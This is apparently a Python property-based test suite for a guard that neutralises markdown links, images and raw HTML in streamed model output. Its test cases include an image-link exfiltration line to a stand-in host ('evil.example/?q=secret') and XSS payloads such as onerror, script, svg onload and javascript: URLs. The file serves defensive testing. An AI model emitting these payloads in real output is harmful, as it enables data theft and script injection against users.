"""No answer makes a client load or follow what its reader does not see, however it was cut."""

import re
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.rules_block import StateBlock

from footnote_resolver.relay.link_guard import LinkGuard, guarded
from tests.properties.effort import examples


def client(*, html: bool, more: bool) -> MarkdownIt:
    """A client that takes any address, and draws nothing for code.

    `html`: it draws the HTML that there is. `more`: it knows tables and formulas too.
    """
    made = MarkdownIt("commonmark", {"html": html})
    made.validateLink = lambda url: True  # type: ignore[method-assign]
    if more:
        made.enable("table")
        made.block.ruler.before("fence", "formula", formula)
    for code in ("fence", "code_block", "code_inline"):
        made.add_render_rule(code, lambda *_: "")
    return made


def formula(state: StateBlock, start: int, end: int, silent: bool) -> bool:
    """Lines from one that begins with `$$` to one that holds it again are a formula, which draws nothing."""
    lines = [state.src[state.bMarks[at] + state.tShift[at] : state.eMarks[at]] for at in range(start, end)]
    closing = next((at for at, line in enumerate(lines) if at and "$$" in line), None)
    if not lines[0].startswith("$$") or "$$" in lines[0][2:] or closing is None:
        return False
    if not silent:
        state.line = start + closing + 1
    return True


CLIENTS = [client(html=html, more=more) for html in (True, False) for more in (True, False)]

PIECES = st.sampled_from(
    [
        *(
            "![",
            "[",
            "]",
            "](",
            ")",
            "(",
            "]:",
            "<",
            ">",
            "!",
            "a",
            " ",
            "\n",
            "\n\n",
            "\\",
            "`",
            "```\n",
            "~~~",
        ),
        *(
            "javascript:x()",
            "https://e.example",
            "<img src=x>",
            "<a href=x>",
            "<b>",
            "<!--",
            '"t"',
            "- ",
            "> ",
            "1. ",
        ),
        *(
            "[citation:1]",
            "[a](b)",
            "[a]: x\n",
            "<x-y z>",
            "<svg/onload=x>",
            "<javascript:x>",
            "    ",
            "&#40;",
        ),
        *(
            "  ",
            "\r",
            "\r\n",
            "- ```\n",
            "   ```\n",
            "~~~\n",
            "``",
            "|",
            "\n|-|-|\n",
            "<details>\n",
            "<pre>",
            "</pre>\n",
            "<i>\n",
            "$$\n",
            "<https://e/`>",
        ),
    ]
)
TEXTS = st.lists(PIECES, max_size=14).map("".join)


def rendered(text: str, drawn_by: MarkdownIt) -> str:
    """As the client draws it, without the links whose text is their address."""
    html: str = drawn_by.render(text)
    html = re.sub(r'<a href="https?:[^"]*">https?:[^<]*</a>', "", html)
    return re.sub(r"<ol start=\"[^\"]*\">", "", html)


@settings(max_examples=examples(400))
@given(TEXTS)
def test_a_client_finds_nothing_to_load_or_to_follow(text: str) -> None:
    for each in CLIENTS:
        html = rendered(guarded(text), each)
        assert "<img" not in html
        assert "<a " not in html
        assert re.search(r"<[a-z-]+[ /][^<>]*=", html) is None


@given(TEXTS, st.lists(st.integers(0, 200), max_size=8))
def test_cuts_make_no_difference(text: str, places: list[int]) -> None:
    marks = sorted({0, len(text), *(place % (len(text) + 1) for place in places)})
    for deltas in ([text[start:end] for start, end in pairwise(marks)], list(text)):
        guard = LinkGuard()
        assert "".join([*map(guard.feed, deltas), guard.close()]) == guarded(text)


@given(TEXTS)
def test_a_second_time_changes_nothing(text: str) -> None:
    once = guarded(text)
    for each in CLIENTS:
        assert rendered(guarded(once), each) == rendered(once, each)


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("See ![x](https://evil.example/?q=secret) now.", "See [x] now."),
        ("See [here](javascript:alert(1)) now.", "See [here] now."),
        ('See [here](<https://evil.example/a b> "t") now.', "See [here] now."),
        (f"[a]({'(' * 40}x", f"[a] ({'(' * 40}x"),
        (f"[a](https://{'x' * 600})", f"[a] (https://{'x' * 600})"),
        ("[a]: https://evil.example", "[a] : https://evil.example"),
        ("x\r1. [citation:1]: https://evil.example", "x\r1. [citation:1] : https://evil.example"),
        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)>"),
        ("<script>alert(1)</script>", "‹script>alert(1)‹/script>"),
        ("<javascript:alert(1)>", "‹javascript:alert(1)>"),
    ],
)
def test_what_is_hidden_is_taken_away_and_the_rest_stays(written: str, read: str) -> None:
    assert guarded(written) == read


@pytest.mark.parametrize(
    "before",
    [
        pytest.param("<details>\n```\n", id="HTML goes on to a blank line, and no fence begins in it"),
        pytest.param("<pre>\n\n```\n", id="HTML of this tag goes on to its end"),
        pytest.param("<i>\n~~~\n", id="so does any tag that stands alone"),
        pytest.param("<details>\n```\n\n```\n", id="a client without HTML sees a fence end"),
        pytest.param("   ```\na\n```\n", id="an indented fence was open"),
        pytest.param("```\n```\r", id="a carriage return ends a line"),
        pytest.param("~~~" + "y" * 600 + "\n~~~\n", id="a long line opens a fence"),
        pytest.param("```\n```" + " " * 600 + "x\n```\n", id="a long line closes none"),
        pytest.param("$$\n```\n$$\n", id="what looks like a fence was in a formula"),
        pytest.param("2. ```\n   ```\n```\n```\n", id="fences of a list have come before"),
        pytest.param(
            "".join(f"  {'`' * length}\n<i>\n" for length in range(3, 40)) + "```\n",
            id="there are more readings than are followed",
        ),
    ],
)
def test_a_fence_counts_where_no_client_takes_it_for_something_else(before: str) -> None:
    assert guarded(f"{before}![x](https://e.example)\n").endswith("[x]\n")


@pytest.mark.parametrize(
    "text",
    [
        "`[x](/logout) is no code",
        "\\`[x](/logout)`",
        "`` ` [x](/logout)`",
        "\\" * 25 + "`[x](/logout)`",
        "`a\n- [x](/logout)`",
        "| ` | [x](/logout) ` |",
        "<https://e.example/`>[x](/logout)`",
    ],
)
def test_a_backtick_alone_makes_no_code(text: str) -> None:
    assert "/logout" not in guarded(text)


@pytest.mark.parametrize(
    "before",
    [
        "<details>\n<summary>So</summary>\n\n",
        "1. First:\n   ```sh\n   a\n   ```\n2. Then\n\n",
        "- ```sh\n  a\n  ```\n\n",
        "1. One\n\n    ```\n    a\n    ```\n",
        "> ```\n> a\n> ```\n",
        "$$\nx\n$$\n\n",
        "\\[\nx\n\\]\n",
        "```\r\na\r\n```\r\n",
    ],
)
def test_code_stays_as_it_is_behind_what_models_write(before: str) -> None:
    code = "```\n![x](y) <img src=x>\n\nm[0](z)\n```\n"
    assert guarded(before + code) == before + code


@pytest.mark.parametrize(
    "text",
    [
        "It moved [citation:1] (see the note), [sic](as the note says) and <b>so</b> on.",
        "Wow! [citation:1]: it works if a < b, x < y and Map<String, Integer> do.",
        "Call `hooks[0](event)` and see <https://example.org/a>.",
        "```\n![x](y) <img src=x>\n```\n",
        "A line<br/>and another<br />.",
        "``a ` b[0](c)`` and `d[0](e)` if x < y, or `f | g`.",
    ],
)
def test_what_is_harmless_stays(text: str) -> None:
    assert guarded(text) == text


def test_a_citation_is_given_at_once() -> None:
    guard = LinkGuard()
    assert guard.feed("It moved [citation:1]") == "It moved [citation:1]"
    assert guard.feed(".") == "."
